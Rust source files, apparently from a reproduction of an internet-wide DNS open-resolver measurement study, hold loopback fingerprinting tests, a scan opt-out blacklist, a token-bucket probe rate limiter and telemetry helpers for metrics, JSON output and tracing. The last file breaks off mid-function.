            geodb::Rir::Ripe,
            7,
        )
    }

    #[tokio::test]
    async fn loopback_enumerate_and_fingerprint() {
        let fleet: Vec<ResolverServer> = spawn_fleet(
            vec![
                host(ResolverBehavior::Honest, "9.8.2"),
                host(ResolverBehavior::RefusedAll, "9.9.5"),
                host(ResolverBehavior::Honest, "9.3.6"),
            ],
            SocketAddrV4::new(Ipv4Addr::LOCALHOST, 0),
        )
        .await
        .unwrap();
        let targets: Vec<SocketAddrV4> = fleet.iter().map(|s| s.local_addr).collect();

        let results =
            enumerate_and_fingerprint(&targets, "probe.example", 16, Duration::from_secs(3))
                .await
                .unwrap();

        assert_eq!(results.len(), 3);
        let noerror: Vec<_> = results
            .iter()
            .filter(|(_, r, _)| *r == Rcode::NoError)
            .collect();
        let refused: Vec<_> = results
            .iter()
            .filter(|(_, r, _)| *r == Rcode::Refused)
            .collect();
        assert_eq!(noerror.len(), 2);
        assert_eq!(refused.len(), 1);
        let versions: Vec<&str> = noerror
            .iter()
            .filter_map(|(_, _, v)| v.as_deref())
            .collect();
        assert!(versions.contains(&"BIND 9.8.2"));
        assert!(versions.contains(&"BIND 9.3.6"));

        for s in fleet {
            s.shutdown().await;
        }
    }

    #[tokio::test]
    async fn unresponsive_targets_do_not_hang() {
        // Nothing listens on this port (bind+drop to find a free one).
        let free = {
            let s = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
            let a = s.local_addr().unwrap();
            match a {
                SocketAddr::V4(v4) => v4,
                _ => unreachable!(),
            }
        };
        let results = scan_targets(
            &[free],
            Probe::A(Name::parse("probe.example").unwrap()),
            4,
            Duration::from_millis(200),
        )
        .await
        .unwrap();
        assert!(results.is_empty());
    }
}
