//! The scan blacklist (Sec. 2.2).
//!
//! The paper honored opt-out requests: 208 network ranges and 50
//! individual addresses (20.8 M addresses total) were excluded from
//! every scan, and "to allow comparisons between the individual weekly
//! scans, we ignore blacklisted IP addresses in all of our scanning
//! results".

use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// A set of excluded ranges and individual addresses.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Blacklist {
    /// Inclusive `[lo, hi]` ranges, sorted by `lo`, non-overlapping.
    ranges: Vec<(u32, u32)>,
    /// Individual addresses, sorted.
    singles: Vec<u32>,
}

impl Blacklist {
    /// Build from opt-out requests. Overlapping ranges are merged.
    pub fn new(ranges: Vec<(Ipv4Addr, Ipv4Addr)>, singles: Vec<Ipv4Addr>) -> Self {
        let mut r: Vec<(u32, u32)> = ranges
            .into_iter()
            .map(|(a, b)| {
                let (a, b) = (u32::from(a), u32::from(b));
                if a <= b {
                    (a, b)
                } else {
                    (b, a)
                }
            })
            .collect();
        r.sort_unstable();
        let mut merged: Vec<(u32, u32)> = Vec::with_capacity(r.len());
        for (lo, hi) in r {
            match merged.last_mut() {
                Some((_, mhi)) if lo <= mhi.saturating_add(1) => *mhi = (*mhi).max(hi),
                _ => merged.push((lo, hi)),
            }
        }
        let mut s: Vec<u32> = singles.into_iter().map(u32::from).collect();
        s.sort_unstable();
        s.dedup();
        Blacklist {
            ranges: merged,
            singles: s,
        }
    }

    /// Whether `ip` must not be probed.
    pub fn contains(&self, ip: Ipv4Addr) -> bool {
        let v = u32::from(ip);
        let idx = self.ranges.partition_point(|&(lo, _)| lo <= v);
        if idx > 0 && v <= self.ranges[idx - 1].1 {
            return true;
        }
        self.singles.binary_search(&v).is_ok()
    }

    /// Number of excluded addresses.
    pub fn excluded_count(&self) -> u64 {
        self.ranges
            .iter()
            .map(|&(lo, hi)| (hi - lo + 1) as u64)
            .sum::<u64>()
            + self.singles.len() as u64
    }

    /// Number of opt-out range entries.
    pub fn range_count(&self) -> usize {
        self.ranges.len()
    }

    /// Whether the blacklist is empty.
    pub fn is_empty(&self) -> bool {
        self.ranges.is_empty() && self.singles.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    #[test]
    fn ranges_and_singles() {
        let b = Blacklist::new(
            vec![(ip("11.0.0.0"), ip("11.0.0.255"))],
            vec![ip("12.0.0.7")],
        );
        assert!(b.contains(ip("11.0.0.0")));
        assert!(b.contains(ip("11.0.0.255")));
        assert!(b.contains(ip("12.0.0.7")));
        assert!(!b.contains(ip("11.0.1.0")));
        assert!(!b.contains(ip("12.0.0.8")));
        assert_eq!(b.excluded_count(), 257);
    }

    #[test]
    fn overlapping_ranges_merge() {
        let b = Blacklist::new(
            vec![
                (ip("11.0.0.0"), ip("11.0.0.127")),
                (ip("11.0.0.100"), ip("11.0.0.255")),
                (ip("11.0.1.0"), ip("11.0.1.10")),
            ],
            vec![],
        );
        // 11.0.0.0–255 merges with the overlapping range AND with the
        // adjacent 11.0.1.0–10 (adjacency-merging preserves semantics).
        assert_eq!(b.range_count(), 1);
        assert_eq!(b.excluded_count(), 256 + 11);
    }

    #[test]
    fn inverted_input_normalized() {
        let b = Blacklist::new(vec![(ip("11.0.0.255"), ip("11.0.0.0"))], vec![]);
        assert!(b.contains(ip("11.0.0.128")));
    }

    #[test]
    fn empty_blacklist() {
        let b = Blacklist::default();
        assert!(b.is_empty());
        assert!(!b.contains(ip("1.2.3.4")));
        assert_eq!(b.excluded_count(), 0);
    }
}
