//! Probe rate limiting.
//!
//! The paper stresses that it "adjusted the rate of outgoing DNS
//! requests to achieve a low packet loss" and reports zero abuse
//! complaints over 13 months (Sec. 5). This token bucket is the pacing
//! primitive: campaigns consume one token per probe; when the bucket is
//! dry the caller learns how long to wait. It is pure state — no clocks
//! — so it works under both simulated and wall-clock time.

use serde::{Deserialize, Serialize};

/// A token bucket over millisecond timestamps.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TokenBucket {
    /// Tokens added per millisecond.
    rate_per_ms: f64,
    /// Maximum burst.
    capacity: f64,
    tokens: f64,
    last_ms: u64,
}

impl TokenBucket {
    /// A bucket allowing `rate` probes per second with bursts of up to
    /// `burst` probes. Starts full.
    pub fn new(rate_per_s: u32, burst: u32) -> Self {
        assert!(rate_per_s > 0, "rate must be positive");
        TokenBucket {
            rate_per_ms: rate_per_s as f64 / 1_000.0,
            capacity: burst.max(1) as f64,
            tokens: burst.max(1) as f64,
            last_ms: 0,
        }
    }

    fn refill(&mut self, now_ms: u64) {
        if now_ms > self.last_ms {
            let elapsed = (now_ms - self.last_ms) as f64;
            self.tokens = (self.tokens + elapsed * self.rate_per_ms).min(self.capacity);
            self.last_ms = now_ms;
        }
    }

    /// Try to consume one token at `now_ms`. On failure returns the
    /// number of milliseconds to wait before the next token is ready.
    pub fn try_acquire(&mut self, now_ms: u64) -> Result<(), u64> {
        self.refill(now_ms);
        if self.tokens >= 1.0 {
            self.tokens -= 1.0;
            Ok(())
        } else {
            let deficit = 1.0 - self.tokens;
            Err((deficit / self.rate_per_ms).ceil() as u64)
        }
    }

    /// Tokens currently available.
    pub fn available(&self) -> f64 {
        self.tokens
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn burst_then_paced() {
        let mut b = TokenBucket::new(1_000, 10); // 1 probe/ms, burst 10
        for _ in 0..10 {
            assert!(b.try_acquire(0).is_ok());
        }
        // Bucket dry: must wait ~1ms.
        let wait = b.try_acquire(0).unwrap_err();
        assert_eq!(wait, 1);
        // After the wait, one token is available.
        assert!(b.try_acquire(1).is_ok());
        assert!(b.try_acquire(1).is_err());
    }

    #[test]
    fn refill_caps_at_capacity() {
        let mut b = TokenBucket::new(100, 5);
        for _ in 0..5 {
            assert!(b.try_acquire(0).is_ok());
        }
        // A long idle period cannot overfill the bucket.
        b.refill(1_000_000);
        assert!(b.available() <= 5.0 + 1e-9);
    }

    #[test]
    fn sustained_rate_is_honored() {
        let mut b = TokenBucket::new(500, 1); // 0.5 tokens/ms
        let mut sent = 0u32;
        let mut now = 0u64;
        while now < 1_000 {
            match b.try_acquire(now) {
                Ok(()) => sent += 1,
                Err(wait) => now += wait,
            }
        }
        // 500/s over 1 s ⇒ ≈500 sends (±burst).
        assert!((495..=505).contains(&sent), "sent {sent}");
    }

    #[test]
    fn time_never_flows_backwards() {
        let mut b = TokenBucket::new(1_000, 2);
        assert!(b.try_acquire(100).is_ok());
        // A stale timestamp must not mint tokens.
        assert!(b.try_acquire(50).is_ok()); // second burst token
        assert!(b.try_acquire(50).is_err());
    }

    #[test]
    #[should_panic(expected = "rate must be positive")]
    fn zero_rate_rejected() {
        let _ = TokenBucket::new(0, 1);
    }

    #[test]
    fn clock_backwards_keeps_wait_estimates_sane() {
        let mut b = TokenBucket::new(1_000, 1); // 1 token/ms, burst 1
        assert!(b.try_acquire(1_000).is_ok());
        // Clock jumps backwards while the bucket is dry: `last_ms`
        // must not move, the deficit must not grow, and the advertised
        // wait stays the one-token refill time.
        assert_eq!(b.try_acquire(400), Err(1));
        assert_eq!(b.try_acquire(0), Err(1));
        assert!(b.available() >= 0.0, "deficit never goes negative");
        // Once the clock passes the old watermark, refill resumes from
        // `last_ms`, not from the stale timestamps.
        assert!(b.try_acquire(1_001).is_ok());
    }

    #[test]
    fn saturation_at_capacity_is_exact() {
        let mut b = TokenBucket::new(250, 8);
        // Idle long enough to overfill a naive accumulator many times
        // over (u32 rates × large gaps stress f64 precision).
        b.refill(u64::from(u32::MAX));
        assert_eq!(b.available(), 8.0, "saturates exactly at capacity");
        // Exactly `capacity` sends clear the bucket; the next is a wait.
        let now = u64::from(u32::MAX);
        for _ in 0..8 {
            assert!(b.try_acquire(now).is_ok());
        }
        assert_eq!(b.try_acquire(now), Err(4), "250/s ⇒ 4ms per token");
    }

    #[test]
    fn fractional_tokens_accumulate_over_long_sim_gaps() {
        // 3 probes/s ⇒ 0.003 tokens/ms: every refill step lands on a
        // fraction. Walk a simulated week in uneven millisecond gaps
        // (each minting well under the burst capacity, so nothing is
        // clamped away) and check that total throughput matches the
        // configured rate to within one token — i.e. the fractional
        // remainders carried between refills are never dropped.
        let mut b = TokenBucket::new(3, 5);
        let mut sent = 0u64;
        let mut now = 0u64;
        while b.try_acquire(now).is_ok() {
            sent += 1; // initial burst
        }
        let week_ms = 7 * 24 * 3_600 * 1_000u64;
        for gap in [1u64, 7, 333, 211, 97].iter().cycle() {
            if now + gap > week_ms {
                break;
            }
            now += gap;
            while b.try_acquire(now).is_ok() {
                sent += 1;
            }
        }
        // Everything minted over `now` milliseconds plus the burst,
        // minus at most one fractional token left in the bucket.
        let expected = 5 + (now as f64 * 3.0 / 1_000.0) as u64;
        assert!(
            sent.abs_diff(expected) <= 1,
            "sent {sent}, expected ≈{expected}"
        );
    }
}
