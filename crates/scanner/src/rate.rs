//! Probe rate limiting.
//!
//! The paper stresses that it "adjusted the rate of outgoing DNS
//! requests to achieve a low packet loss" and reports zero abuse
//! complaints over 13 months (Sec. 5). This token bucket is the pacing
//! primitive: campaigns consume one token per probe; when the bucket is
//! dry the caller learns how long to wait. It is pure state — no clocks
//! — so it works under both simulated and wall-clock time.

use serde::{Deserialize, Serialize};

/// A token bucket over millisecond timestamps.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TokenBucket {
    /// Tokens added per millisecond.
    rate_per_ms: f64,
    /// Maximum burst.
    capacity: f64,
    tokens: f64,
    last_ms: u64,
}

impl TokenBucket {
    /// A bucket allowing `rate` probes per second with bursts of up to
    /// `burst` probes. Starts full.
    pub fn new(rate_per_s: u32, burst: u32) -> Self {
        assert!(rate_per_s > 0, "rate must be positive");
        TokenBucket {
            rate_per_ms: rate_per_s as f64 / 1_000.0,
            capacity: burst.max(1) as f64,
            tokens: burst.max(1) as f64,
            last_ms: 0,
        }
    }

    fn refill(&mut self, now_ms: u64) {
        if now_ms > self.last_ms {
            let elapsed = (now_ms - self.last_ms) as f64;
            self.tokens = (self.tokens + elapsed * self.rate_per_ms).min(self.capacity);
            self.last_ms = now_ms;
        }
    }

    /// Try to consume one token at `now_ms`. On failure returns the
    /// number of milliseconds to wait before the next token is ready.
    pub fn try_acquire(&mut self, now_ms: u64) -> Result<(), u64> {
        self.refill(now_ms);
        if self.tokens >= 1.0 {
            self.tokens -= 1.0;
            Ok(())
        } else {
            let deficit = 1.0 - self.tokens;
            Err((deficit / self.rate_per_ms).ceil() as u64)
        }
    }

    /// Tokens currently available.
    pub fn available(&self) -> f64 {
        self.tokens
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn burst_then_paced() {
        let mut b = TokenBucket::new(1_000, 10); // 1 probe/ms, burst 10
        for _ in 0..10 {
            assert!(b.try_acquire(0).is_ok());
        }
        // Bucket dry: must wait ~1ms.
        let wait = b.try_acquire(0).unwrap_err();
        assert_eq!(wait, 1);
        // After the wait, one token is available.
        assert!(b.try_acquire(1).is_ok());
        assert!(b.try_acquire(1).is_err());
    }

    #[test]
    fn refill_caps_at_capacity() {
        let mut b = TokenBucket::new(100, 5);
        for _ in 0..5 {
            assert!(b.try_acquire(0).is_ok());
        }
        // A long idle period cannot overfill the bucket.
        b.refill(1_000_000);
        assert!(b.available() <= 5.0 + 1e-9);
    }

    #[test]
    fn sustained_rate_is_honored() {
        let mut b = TokenBucket::new(500, 1); // 0.5 tokens/ms
        let mut sent = 0u32;
        let mut now = 0u64;
        while now < 1_000 {
            match b.try_acquire(now) {
                Ok(()) => sent += 1,
                Err(wait) => now += wait,
            }
        }
        // 500/s over 1 s ⇒ ≈500 sends (±burst).
        assert!((495..=505).contains(&sent), "sent {sent}");
    }

    #[test]
    fn time_never_flows_backwards() {
        let mut b = TokenBucket::new(1_000, 2);
        assert!(b.try_acquire(100).is_ok());
        // A stale timestamp must not mint tokens.
        assert!(b.try_acquire(50).is_ok()); // second burst token
        assert!(b.try_acquire(50).is_err());
    }

    #[test]
    #[should_panic(expected = "rate must be positive")]
    fn zero_rate_rejected() {
        let _ = TokenBucket::new(0, 1);
    }
}
