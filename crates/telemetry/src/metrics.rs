//! Metric handles: clonable wrappers over shared atomics. The handle
//! is fetched once from the registry (name lookup, one lock) and then
//! incremented lock-free on the hot path.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// A monotonically increasing counter.
#[derive(Clone, Debug, Default)]
pub struct Counter(Arc<AtomicU64>);

impl Counter {
    /// A fresh, unregistered counter (tests; prefer the registry).
    pub fn new() -> Counter {
        Counter::default()
    }

    /// Adds one.
    #[inline]
    pub fn inc(&self) {
        self.0.fetch_add(1, Ordering::Relaxed);
    }

    /// Adds `n`.
    #[inline]
    pub fn add(&self, n: u64) {
        self.0.fetch_add(n, Ordering::Relaxed);
    }

    /// Current value.
    pub fn get(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }
}

/// A gauge holding an arbitrary `f64` (stored as bits in an atomic):
/// last-set value, with a high-watermark helper for depths.
#[derive(Clone, Debug)]
pub struct Gauge(Arc<AtomicU64>);

impl Default for Gauge {
    fn default() -> Gauge {
        Gauge(Arc::new(AtomicU64::new(0f64.to_bits())))
    }
}

impl Gauge {
    /// A fresh, unregistered gauge (tests; prefer the registry).
    pub fn new() -> Gauge {
        Gauge::default()
    }

    /// Sets the value.
    #[inline]
    pub fn set(&self, v: f64) {
        self.0.store(v.to_bits(), Ordering::Relaxed);
    }

    /// Raises the value to `v` if `v` is larger (high watermark).
    #[inline]
    pub fn set_max(&self, v: f64) {
        let mut cur = self.0.load(Ordering::Relaxed);
        while v > f64::from_bits(cur) {
            match self.0.compare_exchange_weak(
                cur,
                v.to_bits(),
                Ordering::Relaxed,
                Ordering::Relaxed,
            ) {
                Ok(_) => break,
                Err(seen) => cur = seen,
            }
        }
    }

    /// Current value.
    pub fn get(&self) -> f64 {
        f64::from_bits(self.0.load(Ordering::Relaxed))
    }
}

/// A fixed-bucket histogram of `u64` samples. Buckets are defined by
/// inclusive upper bounds; samples above the last bound land in an
/// implicit overflow bucket. Recording is a linear scan over a handful
/// of bounds plus two relaxed atomic adds.
#[derive(Clone, Debug)]
pub struct Histogram {
    inner: Arc<HistogramInner>,
}

#[derive(Debug)]
struct HistogramInner {
    bounds: Vec<u64>,
    counts: Vec<AtomicU64>, // one per bound, plus overflow
    sum: AtomicU64,
    total: AtomicU64,
    max: AtomicU64,
}

impl Histogram {
    /// A histogram with the given inclusive upper bounds, which must
    /// be strictly increasing.
    pub fn new(bounds: &[u64]) -> Histogram {
        assert!(
            bounds.windows(2).all(|w| w[0] < w[1]),
            "histogram bounds must be strictly increasing"
        );
        let counts = (0..=bounds.len()).map(|_| AtomicU64::new(0)).collect();
        Histogram {
            inner: Arc::new(HistogramInner {
                bounds: bounds.to_vec(),
                counts,
                sum: AtomicU64::new(0),
                total: AtomicU64::new(0),
                max: AtomicU64::new(0),
            }),
        }
    }

    /// Records one sample.
    #[inline]
    pub fn observe(&self, v: u64) {
        let i = self
            .inner
            .bounds
            .iter()
            .position(|&b| v <= b)
            .unwrap_or(self.inner.bounds.len());
        self.inner.counts[i].fetch_add(1, Ordering::Relaxed);
        self.inner.sum.fetch_add(v, Ordering::Relaxed);
        self.inner.total.fetch_add(1, Ordering::Relaxed);
        self.inner.max.fetch_max(v, Ordering::Relaxed);
    }

    /// Largest sample recorded so far (exact; 0 with no samples).
    pub fn max(&self) -> u64 {
        self.inner.max.load(Ordering::Relaxed)
    }

    /// Number of samples recorded.
    pub fn count(&self) -> u64 {
        self.inner.total.load(Ordering::Relaxed)
    }

    /// Sum of all samples.
    pub fn sum(&self) -> u64 {
        self.inner.sum.load(Ordering::Relaxed)
    }

    /// The bucket bounds.
    pub fn bounds(&self) -> &[u64] {
        &self.inner.bounds
    }

    /// Per-bucket counts: one per bound, then the overflow bucket.
    pub fn bucket_counts(&self) -> Vec<u64> {
        self.inner
            .counts
            .iter()
            .map(|c| c.load(Ordering::Relaxed))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counter_adds() {
        let c = Counter::new();
        c.inc();
        c.add(4);
        assert_eq!(c.get(), 5);
        let c2 = c.clone();
        c2.inc();
        assert_eq!(c.get(), 6, "clones share the cell");
    }

    #[test]
    fn gauge_set_and_watermark() {
        let g = Gauge::new();
        assert_eq!(g.get(), 0.0);
        g.set(9.9);
        assert_eq!(g.get(), 9.9);
        g.set_max(3.0);
        assert_eq!(g.get(), 9.9, "set_max never lowers");
        g.set_max(12.5);
        assert_eq!(g.get(), 12.5);
        g.set(-1.5);
        assert_eq!(g.get(), -1.5);
    }

    #[test]
    fn histogram_buckets_and_overflow() {
        let h = Histogram::new(&[1, 10, 100]);
        for v in [0, 1, 2, 10, 99, 100, 101, 5000] {
            h.observe(v);
        }
        assert_eq!(h.count(), 8);
        assert_eq!(h.sum(), 5313);
        assert_eq!(h.bucket_counts(), vec![2, 2, 2, 2]);
        assert_eq!(h.max(), 5000, "exact max survives bucketing");
    }

    #[test]
    #[should_panic(expected = "strictly increasing")]
    fn histogram_rejects_unsorted_bounds() {
        Histogram::new(&[10, 10]);
    }
}
