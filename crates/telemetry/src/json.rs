//! Minimal JSON writing helpers. The crate is std-only by design, so
//! the two exporters assemble their output with these instead of a
//! serializer. Output is always valid JSON: strings are escaped per
//! RFC 8259 and non-finite floats degrade to `null`.

use std::fmt::Write;

/// Appends `s` as a quoted, escaped JSON string.
pub fn push_str(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Appends `v` as a JSON number, or `null` when non-finite. Rust's
/// shortest-roundtrip `Display` for `f64` never emits an exponent or
/// a bare trailing dot, so the rendering is itself valid JSON.
pub fn push_f64(out: &mut String, v: f64) {
    if v.is_finite() {
        let _ = write!(out, "{v}");
        // "{}" renders integral floats without a fractional part
        // ("123"), which JSON happily parses as a number.
    } else {
        out.push_str("null");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn esc(s: &str) -> String {
        let mut out = String::new();
        push_str(&mut out, s);
        out
    }

    #[test]
    fn escapes_specials() {
        assert_eq!(esc("plain"), "\"plain\"");
        assert_eq!(esc("a\"b\\c"), "\"a\\\"b\\\\c\"");
        assert_eq!(esc("line\nbreak\ttab"), "\"line\\nbreak\\ttab\"");
        assert_eq!(esc("\u{1}"), "\"\\u0001\"");
        assert_eq!(esc("ünïcode"), "\"ünïcode\"");
    }

    #[test]
    fn floats_render_as_json_numbers() {
        let mut out = String::new();
        push_f64(&mut out, 9.9);
        assert_eq!(out, "9.9");
        out.clear();
        push_f64(&mut out, 123.0);
        assert_eq!(out, "123");
        out.clear();
        push_f64(&mut out, f64::NAN);
        assert_eq!(out, "null");
        out.clear();
        push_f64(&mut out, f64::INFINITY);
        assert_eq!(out, "null");
    }
}
