//! Spans, events, verbosity, and the JSON-lines trace exporter.
//!
//! The trace stream is designed to be byte-stable across seeded runs:
//! every line carries only deterministic fields (sequence number, span
//! id/parent, names, **sim** times, caller attributes). Wall-clock
//! durations are measured but surface only as `span.<name>.wall_us`
//! counters in the metrics snapshot, never in the trace.

use crate::json;
use crate::registry::global;
use std::cell::RefCell;
use std::fmt::Write as _;
use std::io::{self, Write};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicU8, Ordering};
use std::sync::Mutex;
use std::time::Instant;

// ---------------------------------------------------------------- verbosity

/// Event severity, also the verbosity threshold for stderr logging.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// Unrecoverable or data-loss conditions. Always printed.
    Error = 0,
    /// Suspicious but survivable conditions.
    Warn = 1,
    /// Progress and campaign milestones (the old `eprintln!` lines).
    Info = 2,
    /// Per-phase detail.
    Debug = 3,
}

impl Level {
    fn as_str(self) -> &'static str {
        match self {
            Level::Error => "error",
            Level::Warn => "warn",
            Level::Info => "info",
            Level::Debug => "debug",
        }
    }
}

/// Default: warnings and errors only, so library consumers (tests,
/// benches) stay quiet. The `repro` CLI raises this to `Info`.
static VERBOSITY: AtomicU8 = AtomicU8::new(Level::Warn as u8);

/// Sets the stderr verbosity threshold.
pub fn set_verbosity(level: Level) {
    VERBOSITY.store(level as u8, Ordering::Relaxed);
}

/// The current stderr verbosity threshold.
pub fn verbosity() -> Level {
    match VERBOSITY.load(Ordering::Relaxed) {
        0 => Level::Error,
        1 => Level::Warn,
        2 => Level::Info,
        _ => Level::Debug,
    }
}

/// True if an event at `level` would be emitted anywhere (stderr or
/// trace) — lets callers skip building attributes entirely.
pub fn enabled(level: Level) -> bool {
    level <= verbosity() || trace_enabled()
}

// -------------------------------------------------------------- trace sink

static TRACE_ON: AtomicBool = AtomicBool::new(false);
static TRACE: Mutex<Option<Sink>> = Mutex::new(None);
/// Span-id source. Reset on [`attach_trace`] so seeded runs that each
/// attach a fresh trace assign identical ids.
static NEXT_ID: AtomicU64 = AtomicU64::new(1);

struct Sink {
    w: Box<dyn Write + Send>,
    seq: u64,
}

/// Attaches a JSON-lines trace writer, replacing any previous one.
/// Resets the line sequence and span-id counters, so traces of
/// identical seeded workloads are byte-identical.
pub fn attach_trace(w: Box<dyn Write + Send>) {
    let mut g = TRACE.lock().unwrap_or_else(|e| e.into_inner());
    *g = Some(Sink { w, seq: 0 });
    NEXT_ID.store(1, Ordering::SeqCst);
    TRACE_ON.store(true, Ordering::SeqCst);
}

/// Detaches the trace writer, flushing it first. A no-op without one.
pub fn detach_trace() -> io::Result<()> {
    let sink = {
        let mut g = TRACE.lock().unwrap_or_else(|e| e.into_inner());
        TRACE_ON.store(false, Ordering::SeqCst);
        g.take()
    };
    match sink {
        Some(mut s) => s.w.flush(),
        None => Ok(()),
    }
}

/// True while a trace writer is attached (one relaxed load).
#[inline]
pub fn trace_enabled() -> bool {
    TRACE_ON.load(Ordering::Relaxed)
}

/// Writes one trace line; `build` receives the line's sequence number.
fn emit_line(build: impl FnOnce(u64, &mut String)) {
    let mut g = TRACE.lock().unwrap_or_else(|e| e.into_inner());
    if let Some(sink) = g.as_mut() {
        let seq = sink.seq;
        sink.seq += 1;
        let mut line = String::with_capacity(160);
        build(seq, &mut line);
        line.push('\n');
        let _ = sink.w.write_all(line.as_bytes());
    }
}

// ------------------------------------------------------------- attributes

/// An attribute value on an event or span.
#[derive(Clone, Debug, PartialEq)]
pub enum Value {
    /// Unsigned integer.
    U64(u64),
    /// Signed integer.
    I64(i64),
    /// Float (non-finite values render as JSON `null`).
    F64(f64),
    /// String.
    Str(String),
    /// Boolean.
    Bool(bool),
}

impl Value {
    fn push_json(&self, out: &mut String) {
        match self {
            Value::U64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::I64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::F64(v) => json::push_f64(out, *v),
            Value::Str(s) => json::push_str(out, s),
            Value::Bool(b) => {
                let _ = write!(out, "{b}");
            }
        }
    }

    fn push_plain(&self, out: &mut String) {
        match self {
            Value::U64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::I64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::F64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::Str(s) => out.push_str(s),
            Value::Bool(b) => {
                let _ = write!(out, "{b}");
            }
        }
    }
}

impl From<u64> for Value {
    fn from(v: u64) -> Value {
        Value::U64(v)
    }
}
impl From<u32> for Value {
    fn from(v: u32) -> Value {
        Value::U64(v as u64)
    }
}
impl From<usize> for Value {
    fn from(v: usize) -> Value {
        Value::U64(v as u64)
    }
}
impl From<i64> for Value {
    fn from(v: i64) -> Value {
        Value::I64(v)
    }
}
impl From<f64> for Value {
    fn from(v: f64) -> Value {
        Value::F64(v)
    }
}
impl From<&str> for Value {
    fn from(v: &str) -> Value {
        Value::Str(v.to_string())
    }
}
impl From<String> for Value {
    fn from(v: String) -> Value {
        Value::Str(v)
    }
}
impl From<bool> for Value {
    fn from(v: bool) -> Value {
        Value::Bool(v)
    }
}

fn push_attrs_json(out: &mut String, attrs: &[(impl AsRef<str>, Value)]) {
    out.push('{');
    for (i, (k, v)) in attrs.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        json::push_str(out, k.as_ref());
        out.push(':');
        v.push_json(out);
    }
    out.push('}');
}

// ------------------------------------------------------------------ events

/// Emits an event: to stderr when `level` clears the verbosity
/// threshold, and to the trace stream when one is attached. `sim_ms`
/// is the simulated clock, when the caller has one.
pub fn event(level: Level, name: &str, msg: &str, attrs: &[(&str, Value)], sim_ms: Option<u64>) {
    let to_stderr = level <= verbosity();
    let to_trace = trace_enabled();
    if !to_stderr && !to_trace {
        return;
    }
    if to_stderr {
        let mut line = String::with_capacity(96);
        let _ = write!(line, "[{:5}] {name}: {msg}", level.as_str());
        for (k, v) in attrs {
            let _ = write!(line, " {k}=");
            v.push_plain(&mut line);
        }
        if let Some(t) = sim_ms {
            let _ = write!(line, " sim_ms={t}");
        }
        eprintln!("{line}");
    }
    if to_trace {
        emit_line(|seq, out| {
            let _ = write!(out, "{{\"seq\":{seq},\"type\":\"event\",\"level\":");
            json::push_str(out, level.as_str());
            out.push_str(",\"name\":");
            json::push_str(out, name);
            out.push_str(",\"msg\":");
            json::push_str(out, msg);
            match sim_ms {
                Some(t) => {
                    let _ = write!(out, ",\"sim_ms\":{t}");
                }
                None => out.push_str(",\"sim_ms\":null"),
            }
            out.push_str(",\"attrs\":");
            push_attrs_json(out, attrs);
            out.push('}');
        });
    }
}

// ------------------------------------------------------------------- spans

thread_local! {
    static SPAN_STACK: RefCell<Vec<u64>> = const { RefCell::new(Vec::new()) };
}

/// An open interval in both clocks. Create with [`span`], close with
/// [`Span::finish`] passing the simulated end time; dropping an
/// unfinished span closes it at its own start time. Spans nest
/// per-thread (LIFO): a span opened while another is open records it
/// as its parent.
pub struct Span {
    id: u64,
    parent: Option<u64>,
    name: String,
    sim_start: u64,
    wall_start: Instant,
    attrs: Vec<(String, Value)>,
    done: bool,
}

/// Opens a span at simulated time `sim_start_ms`.
pub fn span(name: &str, sim_start_ms: u64) -> Span {
    let id = NEXT_ID.fetch_add(1, Ordering::Relaxed);
    let parent = SPAN_STACK.with(|s| {
        let mut s = s.borrow_mut();
        let parent = s.last().copied();
        s.push(id);
        parent
    });
    Span {
        id,
        parent,
        name: name.to_string(),
        sim_start: sim_start_ms,
        wall_start: Instant::now(),
        attrs: Vec::new(),
        done: false,
    }
}

impl Span {
    /// Attaches a key/value pair, reported in insertion order.
    pub fn attr(&mut self, key: &str, value: impl Into<Value>) {
        self.attrs.push((key.to_string(), value.into()));
    }

    /// Closes the span at simulated time `sim_end_ms`: records the
    /// `span.<name>.{count,sim_ms,wall_us}` counters and emits one
    /// trace line when a trace is attached.
    pub fn finish(mut self, sim_end_ms: u64) {
        self.done = true;
        self.close(sim_end_ms);
    }

    fn close(&mut self, sim_end_ms: u64) {
        SPAN_STACK.with(|s| {
            let mut s = s.borrow_mut();
            if let Some(pos) = s.iter().rposition(|&id| id == self.id) {
                s.remove(pos);
            }
        });
        let wall_us = self.wall_start.elapsed().as_micros() as u64;
        let sim_ms = sim_end_ms.saturating_sub(self.sim_start);
        let reg = global();
        reg.counter(&format!("span.{}.count", self.name)).inc();
        reg.counter(&format!("span.{}.sim_ms", self.name))
            .add(sim_ms);
        reg.counter(&format!("span.{}.wall_us", self.name))
            .add(wall_us);
        if trace_enabled() {
            emit_line(|seq, out| {
                let _ = write!(out, "{{\"seq\":{seq},\"type\":\"span\",\"id\":{}", self.id);
                match self.parent {
                    Some(p) => {
                        let _ = write!(out, ",\"parent\":{p}");
                    }
                    None => out.push_str(",\"parent\":null"),
                }
